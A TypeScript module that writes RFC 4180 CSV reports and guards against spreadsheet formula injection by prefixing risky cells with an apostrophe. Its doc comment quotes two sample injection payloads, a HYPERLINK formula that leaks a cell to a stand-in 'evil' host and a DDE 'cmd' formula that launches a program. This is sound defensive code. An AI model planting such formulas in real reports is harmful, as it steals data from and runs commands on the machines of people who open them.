/**
 * CSV as RFC 4180 writes it, for reports that people open in spreadsheets. Pure.
 *
 * - A header row, then one record per row, every line ended by CRLF.
 * - A field is quoted when it holds a comma, a double quote, CR or LF; a quote inside is doubled.
 * - Text that a spreadsheet would run as a formula gets a leading apostrophe (`neutralizeFormula`).
 */

export type CsvValue = string | number | boolean | null | undefined;

/**
 * Characters that make Excel, LibreOffice or Google Sheets treat a cell as a formula (OWASP's
 * CSV-injection list): `=`, `+`, `-`, `@`, and tab and CR, which some of them skip before looking
 * at the next character. Report cells carry text that people outside the operator's team choose —
 * subaccount and API-key friendly names are set by whoever holds the subaccount, a customer in the
 * ISV case — and a cell such as `=HYPERLINK("https://evil/?"&A1)` or `=cmd|' /c calc'!A0` runs on
 * the auditor's machine when the report is opened.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A leading apostrophe makes a spreadsheet take the cell as text (Excel shows the value without
 * it). The cost: a program that reads the CSV sees the apostrophe; it is added only to text that
 * starts with one of those characters, and numbers (never formulas) are left as they are.
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One field as it appears in the file: empty for null, quoted when RFC 4180 requires it. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  if (typeof value === 'number') {
    // A non-finite number in a report is a bug upstream: fail loudly rather than print "NaN".
    if (!Number.isFinite(value)) throw new TypeError(`csv: not a finite number: ${value}`);
    return String(value);
  }
  const text = neutralizeFormula(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** The whole file: the header, then the rows, each line ended by CRLF. Every row must have the header's width. */
export function toCsv(header: readonly string[], rows: Iterable<readonly CsvValue[]>): string {
  const lines = [header.map(csvField).join(',')];
  let n = 0;
  for (const row of rows) {
    n++;
    if (row.length !== header.length) throw new TypeError(`csv: row ${n} has ${row.length} fields, the header ${header.length}`);
    lines.push(row.map(csvField).join(','));
  }
  return `${lines.join('\r\n')}\r\n`;
}
